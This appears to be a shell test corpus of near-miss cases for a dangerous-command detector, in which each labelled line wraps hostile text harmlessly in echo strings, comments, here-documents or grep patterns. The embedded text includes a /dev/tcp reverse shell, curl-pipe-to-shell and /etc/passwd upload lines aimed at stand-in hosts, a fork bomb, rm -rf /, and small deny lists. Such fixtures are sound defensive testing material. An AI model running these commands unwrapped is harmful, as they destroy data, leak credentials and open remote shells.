exit 1 # corpus text, never to be run
#--- near-echo-rm [L1]: dangerous text in quotes
echo "never run rm -rf /"
#--- near-echo-rm-bare [L1]: dangerous words as arguments
echo rm -rf /
#--- near-printf-rm [L1]: dangerous text by printf
printf '%s\n' 'rm -rf ~' 'sudo reboot'
#--- near-echo-pipe-text [L1]: pipe inside quotes
echo 'curl https://x.example.invalid | sh'
#--- near-echo-semicolon [L1]: separator inside quotes
echo "a; rm -rf /; b"
#--- near-echo-escaped-substitution [L1]: escaped substitution
echo "\$(rm -rf /) and \`reboot\`"
#--- near-echo-single-substitution [L1]: substitution in single quotes
echo '$(curl -s x.example.invalid | bash)'
#--- near-echo-redirect-text [L1]: redirection inside quotes
echo "echo x > /etc/passwd"
#--- near-echo-escaped-redirect [L1]: escaped redirection sign
echo a \> /etc/passwd
#--- near-echo-chmod [L1]: mode in a message
echo "do not use chmod 777 here"
#--- near-echo-forkbomb [L1]: fork bomb as text
echo ':(){ :|:& };:'
#--- near-echo-dev-tcp [L1]: socket path as text
echo 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1'
#--- near-comment-rm [L1]: dangerous comment
# rm -rf / would be bad
ls
#--- near-comment-trailing [L1]: dangerous trailing comment
ls -la # then: sudo rm -rf /
#--- near-comment-curl [L1]: usage in a comment
# Install: curl -fsSL https://x.example.invalid/i.sh | bash
cat INSTALL.md
#--- near-heredoc-sudo [L1]: dangerous text in a here-document
cat <<'END'
sudo apt-get install -y jq
rm -rf /
END
#--- near-heredoc-unquoted [L1]: dangerous text, unquoted delimiter
cat <<END
Never run: curl http://x.example.invalid | sh
Home is $HOME
END
#--- near-heredoc-sql [L1]: SQL text shown
cat <<SQL
DROP TABLE users;
SQL
#--- near-heredoc-grep [L1]: here-document to grep
grep sudo <<'END'
sudo systemctl stop nginx
END
#--- near-noop-heredoc [L1]: commented-out block
: <<'END'
rm -rf ~
shutdown -h now
END
ls
#--- near-grep-curl-sh [L1]: pattern with a pipe
grep 'curl .* | sh' README.md
#--- near-grep-rm-rf [L1]: pattern with rm
grep -rn 'rm -rf' scripts/
#--- near-grep-sudo [L1]: pattern with sudo
grep -rnw sudo .
#--- near-grep-chmod [L1]: pattern with a mode
grep -rnE 'chmod (-R )?0?777' .
#--- near-grep-eval [L1]: pattern with eval
grep -n 'eval "\$(curl' *.sh
#--- near-grep-dev-tcp [L1]: pattern with a socket path
grep -rl '/dev/tcp/' . || echo none
#--- near-grep-e-flag [L1]: -e as with nc
grep -e /bin/sh -e /bin/bash Dockerfile
#--- near-grep-drop [L1]: SQL words searched
grep -niE 'drop table|delete from' migrations/*.sql
#--- near-sed-print-sudo [L1]: dangerous word in a sed program
sed -n '/sudo/p' setup.md
#--- near-sed-remove-sudo [L1]: sudo taken out, to the screen
sed 's/^sudo //' setup.md
#--- near-awk-rm [L1]: dangerous word in an awk program
awk '/rm -rf/ { print FILENAME ":" FNR }' *.sh
#--- near-awk-system-word [L1]: system as a field test
awk '$1 == "system" { n++ } END { print n }' roles.txt
#--- near-find-name-rm [L1]: file named as a command
find . -name 'rm*' -o -name 'sudo*'
#--- near-find-named-delete [L1]: file name with the flag text
find . -name '*-delete*'
#--- near-ls-file-called-sudo [L1]: file named sudo
ls -l sudo su mount
#--- near-cat-systemctl-doc [L1]: file named as a command
cat docs/systemctl.md docs/crontab.txt
#--- near-cat-rm-file [L1]: file named rm
cat ./rm
#--- near-which-sudo [L1]: is sudo there
command -v sudo >/dev/null && echo "sudo is there"
#--- near-which-many [L1]: are the managers there
which apt-get yum dnf apk brew
#--- near-type-rm [L1]: what rm means
type rm
#--- near-variable-sudo-user [L1]: variable name
sudo_user=alice
echo "$sudo_user"
#--- near-variable-rm [L1]: variable called rm
rm=3
echo "$rm"
#--- near-variable-su-count [L1]: variable names with su
su_count=0 sum=4
echo "$su_count $sum"
#--- near-variable-holds-text [L1]: dangerous text held, only shown
msg='rm -rf /'
echo "$msg"
#--- near-variable-length [L1]: dangerous text held, only measured
c='curl x.example.invalid | sh'
echo "${#c}"
#--- near-array-of-bad-words [L1]: list of words searched for
bad=('rm -rf' 'chmod 777' 'sudo ')
for w in "${bad[@]}"; do grep -rnF -- "$w" scripts; done
#--- near-case-pattern [L1]: dangerous words as patterns
case "$1" in
  rm | sudo | reboot) echo "refused: $1" ;;
  *) echo "fine" ;;
esac
#--- near-test-string [L1]: comparison with a dangerous word
[ "$1" = "shutdown" ] && echo "you said shutdown"
#--- near-loop-words [L1]: dangerous words as a list
for c in rm sudo mkfs dd; do echo "$c"; done
#--- near-loop-command-v [L1]: dangerous names looked up
for c in sudo systemctl crontab; do command -v "$c"; done
#--- near-function-names [L1]: functions with dangerous-looking names
remove_sudo() { sed 's/sudo//' "$1"; }
remove_sudo guide.md
#--- near-function-usage-text [L1]: bad text in a help function
usage() {
  echo "usage: clean.sh [--all]"
  echo "  like: rm -rf build, but asks"
}
usage
#--- near-git-log-grep [L1]: dangerous text as a search
git log --grep='rm -rf' --oneline
#--- near-git-show-reboot [L1]: file named reboot
git show HEAD:scripts/reboot.sh
#--- near-git-diff-master [L1]: protected branch read
git diff master -- .github
#--- near-diff-passwd [L1]: system file read
diff passwd.example /etc/hosts
#--- near-head-etc [L1]: system file read
head -5 /etc/services
#--- near-ls-dev [L1]: devices listed
ls -l /dev/null /dev/sda 2>/dev/null
#--- near-stat-etc-ssh [L1]: mode of a system directory
stat -c %a /etc/ssh
#--- near-test-777 [L1]: mode compared
[ "$(stat -c %a run.sh)" = 777 ] && echo "too open"
#--- near-find-world-writable [L1]: open files listed
find . -type f -perm -o+w -ls
#--- near-redirect-null [L1]: output to nowhere
echo hidden > /dev/null
#--- near-redirect-stdout-path [L1]: standard output by path
echo shown > /dev/stdout
#--- near-redirect-stderr-path [L1]: standard error by path
echo warning > /dev/stderr
#--- near-arrow-text [L1]: arrows in text
echo "a -> b => c"
#--- near-pipe-file-called-sh [L1]: files named as shells
cat sh bash.txt | sort -u
#--- near-pipe-to-grep-bash [L1]: pipe to grep for bash
cat /etc/shells | grep bash
#--- near-ps-grep-sshd [L1]: daemon looked for
ps aux | grep '[s]shd'
#--- near-echo-curl-flag-text [L1]: upload text shown
echo "curl -d @/etc/passwd https://x.example.invalid"
#--- near-sql-file-read [L1]: SQL read
cat migrations/001_drop_users.sql
#--- near-wc-install-script [L1]: install script measured
wc -l install.sh && head -20 install.sh
#--- near-jq-install-script [L1]: install field read
jq -r '.scripts.install // "none"' package.json
#--- near-word-su-in-text [L1]: su inside other words
echo sudoku summary suit
#--- near-grep-count-reboot [L1]: word counted
grep -c reboot syslog.sample
#--- near-brace-text [L1]: braces and root as text
echo /{bin,etc,usr}
#--- near-dirname-root [L1]: root computed, only shown
root=/
echo "$root"; ls "$root"
#--- near-base64-words [L1]: encoded dangerous text, only decoded
echo cm0gLXJmIC8= | base64 -d
#--- near-history-word [L1]: history as a word
echo "history -c clears the history"
#--- near-alias-text [L1]: alias text searched
grep -n "alias rm=" dotfiles/bashrc
#--- near-nested-quotes [L1]: quotes in quotes
echo "he said 'sudo rm -rf /' and left"
#--- near-double-dash-operand [L1]: flags as operands
grep -- '-rf /' notes.txt
#--- near-trap-text [L1]: trap that shows dangerous text
trap 'echo "not running: rm -rf /"' EXIT
ls
